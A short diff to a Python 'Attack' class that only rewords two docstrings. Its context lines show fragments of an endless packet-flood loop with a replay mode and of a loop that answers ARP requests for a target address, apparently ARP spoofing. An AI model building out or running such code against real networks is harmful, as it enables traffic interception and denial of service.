@@ -59,7 +59,7 @@ class Attack:
             time.sleep(0.001)
 
     def flood(self, kind: str) -> None:
-        """Send at the rate, for ever."""
+        """Send at the rate, without end."""
         due = time.monotonic()
         while True:
             if kind == "replays":
@@ -70,7 +70,7 @@ class Attack:
                 time.sleep(due - time.monotonic())
 
     def reply(self) -> None:
-        """Reply to whoever looks for the address, for ever."""
+        """Reply to whoever looks for the address, without end."""
         while True:
             frame = self._line.recv(2048)
             if frame[12:14] != struct.pack("!H", ARP) or frame[38:42] != self._address:
